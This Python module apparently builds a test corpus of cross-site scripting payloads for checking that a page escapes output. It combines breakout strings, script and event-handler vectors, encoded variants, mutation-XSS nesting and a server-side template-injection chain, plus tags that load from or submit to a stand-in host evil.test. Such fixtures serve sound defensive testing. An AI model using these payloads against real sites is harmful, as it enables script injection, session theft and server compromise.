"""Words that would run if a page forgot to escape them: each way in, at each place where words end up."""

from __future__ import annotations

from itertools import product
from typing import Final

_RUN: Final = ("window.pwned=1", "alert(1)", "fetch('/pwned')", "document.title='pwned'")
_OUT: Final = ("", '">', "'>", "</textarea>", "</title>", "--></script>", "</svg>", "]]>", '\\"></option>', "{{7*7}}")
_IN: Final = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    '" autofocus onfocus="{0}" x="',
    "<a href='javascript:{0}'>go</a>",
    "<c.x><v javascript:{0}>hi",
)
_ODD: Final = (
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\u202e<script>window.pwned=1</script>",
    "＜script＞window.pwned=1＜/script＞",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.pwned=1}",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
    "<form action=//evil.test><button>x</button></form>",
    "<style>@import '//evil.test/x.css'</style>",
    "-->\n\nNOTE\n<script>window.pwned=1</script>",
)
PAYLOADS: Final = tuple(out + way.format(run) for out, way, run in product(_OUT, _IN, _RUN)) + _ODD
assert len(set(PAYLOADS)) >= 200
